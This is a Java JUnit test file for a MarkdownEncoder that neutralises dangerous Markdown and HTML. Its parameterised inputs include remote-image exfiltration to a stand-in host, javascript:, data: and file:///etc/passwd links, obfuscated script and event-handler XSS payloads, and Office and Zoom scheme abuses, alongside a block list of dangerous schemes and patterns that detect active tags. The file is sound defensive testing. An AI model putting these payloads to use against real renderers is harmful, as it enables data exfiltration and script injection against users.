package io.portreeve.controls.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownEncoderTest {
  private final MarkdownEncoder encoder = new MarkdownEncoder();

  private static final Pattern IMAGE = Pattern.compile("(?<!\\\\)(?:\\\\\\\\)*!\\[");
  private static final Pattern LOCAL_IMAGE =
      Pattern.compile("!\\[[^\\[\\]`<>\\\\]*\\]\\((?!//)[\\w./#-]+( \"[^\"\\\\]*\")?\\)");
  private static final Pattern TARGET = Pattern.compile("\\](?:\\(|:)\\s*<?([^)>\\n]*)");
  private static final Pattern AUTOLINK =
      Pattern.compile("<([A-Za-z][A-Za-z0-9.+-]{1,31}):[^\\s<>]*>");
  private static final Pattern ACTIVE_TAG =
      Pattern.compile(
          "(?i)<(?:/?(?:script|img|iframe|svg|style|object|form|input|base|meta)(?=[\\s/>]|\\z)|!--)");
  private static final Set<String> DANGEROUS =
      Set.of("javascript", "vbscript", "data", "file", "blob", "vscode", "search-ms");

  /** An independent, coarser reading of what a renderer would act on. */
  static void inert(String text) {
    Matcher images = IMAGE.matcher(text);
    while (images.find()) {
      String from = text.substring(images.end() - 2);
      boolean macro = images.end() > 2 && Character.isLetterOrDigit(text.charAt(images.end() - 3));
      boolean inline = from.matches("(?s)!\\[[^\\]]*\\][\\[(].*");
      assertThat(LOCAL_IMAGE.matcher(from).lookingAt() || (macro && !inline))
          .describedAs(() -> "image in " + SinkLaws.escaped(text))
          .isTrue();
    }
    Matcher targets = TARGET.matcher(text);
    while (targets.find()) {
      assertThat(DANGEROUS)
          .describedAs(() -> SinkLaws.escaped(text))
          .doesNotContain(scheme(targets.group(1)));
    }
    Matcher autolinks = AUTOLINK.matcher(text);
    while (autolinks.find()) {
      assertThat(DANGEROUS).doesNotContain(autolinks.group(1).toLowerCase(Locale.ROOT));
    }
    assertThat(ACTIVE_TAG.matcher(text).find()).describedAs(() -> SinkLaws.escaped(text)).isFalse();
  }

  private static String scheme(String target) {
    String bare =
        HtmlEncoderTest.decoded(target)
            .replace("\\", "")
            .replaceAll("[\\x00-\\x20\\x7F-\\xA0]", "");
    int colon = bare.indexOf(':');
    return colon < 0 ? "" : bare.substring(0, colon).toLowerCase(Locale.ROOT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://e.vil/?q=SECRET)",
        "![x](http://e.vil/a.png)",
        "![](//e.vil/a.png)",
        "![x](<https://e.vil/a b>)",
        "![x](\nhttps://e.vil/a)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![x](javascript:alert(1))",
        "![x](&#104;ttps://e.vil)",
        "![x](\\https://e.vil)",
        "![a](b](https://e.vil/?q=1)",
        "![ [x](rel) ](https://e.vil/?q=1)",
        "![`]`](https://e.vil/?q=1)",
        "![x][ref]\n\n[ref]: https://e.vil/?q=1",
        "![ref][]\n\n[ref]: https://e.vil/?q=1",
        "![ref]\n\n[ref]: https://e.vil/?q=1",
        "see![ref]\n\n[ref]: https://e.vil/?q=1",
        "see![Ref  x]\n\n> [ref x]: https://e.vil/?q=1",
        "![defined elsewhere]",
        "\\\\![x](https://e.vil)",
        "[![x](https://e.vil/a.png)](https://e.vil)",
        "```\n![x](https://e.vil)\n```",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](java&#x73;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](java\\script:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](\n javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](<java\tscript:alert(1)>)",
        "[x](\u0001javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](vscode://file/etc/passwd)",
        "[x](search-ms:query=a&crumb=location:%5C%5Ce.vil)",
        "[x](myapp://do/it)",
        "[x](%6Aavascript:alert(1))",
        "[x]: javascript:alert(1)",
        "[x]:\n  javascript:alert(1)",
        "> [x]: <javascript:alert(1)> \"t\"",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "<vscode:extension/x>",
        "<script>alert(1)</script>",
        "<img src=https://e.vil/?q=1>",
        "<IMG SRC=x onerror=alert(1)",
        "text <iframe src=//e.vil></iframe>",
        "<div onclick=alert(1)>",
        "<b title=\">\" onmouseover=alert(1)>x</b>",
        "<x onclick=alert(1)>",
        "<b/onclick=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<p style=\"background:url(https://e.vil)\">",
        "<svg><script>alert(1)</script></svg>",
        "<!-- hidden instruction -->",
        "<!DOCTYPE html>",
        "<?xml version='1.0'?>",
        "</script><script>alert(1)",
        "<link rel=stylesheet href=//e.vil>",
        "<video poster=//e.vil></video>",
        "<input type=image src=//e.vil>",
        "<table background=//e.vil>",
        "<div>\n<img src=//e.vil>\n</div>",
        "<b unclosed=\"quote>"
      })
  void activeText_isMadeInert(String attack) {
    Encoded result = encoder.encode(attack);
    assertThat(result.text()).isNotEqualTo(attack);
    assertThat(result.found()).isNotEmpty();
    inert(result.text());
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          ![x](https://e.vil/?q=1)      | \\![x](https://e.vil/?q=1)
          [x](javascript:alert(1))      | [x](unsafe:javascript:alert(1))
          [x](<javascript:alert(1)>)    | [x](<unsafe:javascript:alert(1)>)
          [x](<javascript:a onload=b>)  | [x](&lt;unsafe:javascript:a onload=b>)
          [x]: <data:a onload=b>        | [x]: &lt;unsafe:data:a onload=b>
          <javascript:alert(1)>         | <unsafe:javascript:alert(1)>
          <img src=x>                   | &lt;img src=x>
          [x]: javascript:a             | [x]: unsafe:javascript:a
          """)
  void change_isSmallAndVisible(String raw, String expected) {
    assertThat(encoder.encode(raw).text()).isEqualTo(expected);
  }

  static Stream<String> benign() {
    return BenignTexts.markdown().stream();
  }

  @ParameterizedTest
  @MethodSource("benign")
  void benignText_isTheSameInstance(String text) {
    // Java's include syntax is the one line here that CommonMark would read as a tag, harmlessly.
    SinkLaws.unchanged(encoder, text);
  }

  @Test
  void hostileText_isInertAndStable() {
    SinkLaws.hold(encoder, MarkdownEncoderTest::inert);
  }

  @Test
  void quadraticBait_isReadInOnePass() {
    String bait = "a![".repeat(20_000) + "<a b=".repeat(20_000) + "](" + " ".repeat(100_000);
    assertThat(encoder.encode(bait).found())
        .containsEntry(TextFlaw.REMOTE_IMAGE, 20_000)
        .containsKey(TextFlaw.HTML_TAG);
    String macros = "a![b] ".repeat(20_000);
    assertThat(encoder.encode(macros).text()).isSameAs(macros);
    assertThat(encoder.encode(macros + "\n[x]: y".repeat(1_000)).found())
        .containsEntry(TextFlaw.REMOTE_IMAGE, 20_000);
  }

  /** Ways to define what a bracket means that a simple look for definitions misses. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a![x]\n\n1. [x]: https://e.example/?q",
        "a![x]\n\n12) [x]: https://e.example/?q",
        "a![x\ny]\n\n[x\ny]: https://e.example/?q",
        "a![a\\]b]\n\n[a\\]b]: https://e.example/?q",
        "a![\u1E9E]\n\n[SS]: https://e.example/?q",
        "a![x]\n\n> 1. - [x]: https://e.example/?q"
      })
  void imageBehindALetter_isNoMacro_whereAnythingIsDefined(String text) {
    assertThat(encoder.encode(text).text()).contains("a\\![");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          <ms-word:ofe%7Cu%7Chttps://e.example/a.docm>  | <unsafe:ms-word:ofe%7Cu%7Chttps://e.example/a.docm>
          <zoommtg://e.example/join?x=1>                | <unsafe:zoommtg://e.example/join?x=1>
          [x]: ms-word:ofe%7Cu%7Chttps://e.example      | [x]: unsafe:ms-word:ofe%7Cu%7Chttps://e.example
          [x](zoommtg://e.example)                      | [x](unsafe:zoommtg://e.example)
          <https://a.example/>                          | <https://a.example/>
          <soap:Envelope>                               | <soap:Envelope>
          <xsl:template match="x">                      | <xsl:template match="x">
          <std::vector>                                 | <std::vector>
          <mailto:a@b.example>                          | <mailto:a@b.example>
          """)
  void schemeThatIsNotOnTheList_isMadeInert_whereverALinkCanStand(String raw, String expected) {
    assertThat(encoder.encode(raw).text()).isEqualTo(expected);
  }
}
